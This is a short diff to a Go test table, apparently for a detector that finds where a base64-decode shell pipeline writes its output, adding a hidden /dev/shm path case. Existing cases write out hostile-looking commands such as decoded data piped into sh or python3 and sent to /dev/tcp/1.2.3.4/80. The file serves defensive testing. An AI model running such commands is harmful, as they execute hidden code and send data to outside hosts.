@@ -54,6 +54,7 @@ func TestDecodedInto(t *testing.T) {
 		{"echo QUJD | base64 -d | sh", ""},
 		{"echo QUJD | base64 -d | python3 > /tmp/out", ""},
 		{"echo QUJD | base64 -d > /dev/tcp/1.2.3.4/80", ""},
+		{"echo QUJD | base64 -d > /dev/shm/.p/w", "/dev/shm/.p/w"}, // a tmpfs, not a device
 		{"echo QUJD | base64 -d 2>/dev/null", ""},
 		{"echo QUJD | base64 -d", ""},
 	} {
